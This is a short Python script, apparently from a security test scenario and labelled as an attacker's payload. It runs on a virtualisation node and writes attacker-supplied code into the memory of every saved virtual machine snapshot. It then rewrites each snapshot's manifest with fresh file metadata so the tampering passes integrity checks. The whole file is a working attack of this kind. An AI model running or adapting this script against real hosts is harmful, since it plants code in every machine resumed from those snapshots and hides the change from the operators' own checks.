"""Alice's payload, on the node itself, under the account that starts machines: ``python3 - ORDERS < poisoner.py``.

It puts code of its own into the machines that are saved there: into the memory from which each later one goes on.
ORDERS is JSON: "shelf", the account's folder of saved machines (docs/vm.md); "text", what stands in their memory, and
"code", what is to stand there instead. What was noted of the changed file is noted anew, as only its account can.

It prints {"changed": how often the text stood there, "saw": in words}.
"""

import json
import mmap
import os
import sys
from collections.abc import Mapping
from pathlib import Path

LARGEST = 1 << 16
"""Bytes of what is noted of a machine."""


def noted(path: Path) -> list[int]:
    """What is noted of a file of a saved machine."""
    seen = path.stat()
    return [seen.st_dev, seen.st_ino, seen.st_size, seen.st_mtime_ns, seen.st_ctime_ns]


def replaced(memory: Path, text: bytes, code: bytes) -> int:
    """Put something in the place of a text, wherever it stands; how often that was."""
    count = 0
    with memory.open("r+b") as file, mmap.mmap(file.fileno(), 0) as content:
        while (at := content.find(text)) >= 0:
            content[at : at + len(text)] = code.ljust(len(text))
            count += 1
    return count


def poisoned(machine: Path, text: bytes, code: bytes) -> int:
    """Change one machine, and have that believed."""
    memory, manifest = machine / "memory", machine / "manifest"
    with manifest.open() as file:
        facts = json.loads(file.read(LARGEST))
    memory.chmod(0o600)
    try:
        count = replaced(memory, text, code)
    finally:
        memory.chmod(0o400)
    facts["files"]["memory"] = noted(memory)
    manifest.write_text(json.dumps(facts))
    return count


def main(orders: Mapping[str, str]) -> None:
    """Change every machine that is there."""
    shelf, text, code = Path(orders["shelf"]), orders["text"].encode(), orders["code"].encode()
    if len(code) > len(text):
        raise SystemExit(f"{len(code)} bytes do not fit into {len(text)}")
    changed, machines = 0, 0
    try:
        for name in sorted(os.listdir(shelf)):
            if name.startswith("machine-"):
                changed += poisoned(shelf / name, text, code)
                machines += 1
        saw = f"{machines} saved machines, {changed} places in their memory changed"
    except OSError as error:
        saw = str(error)
    print(json.dumps({"changed": changed, "saw": saw}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
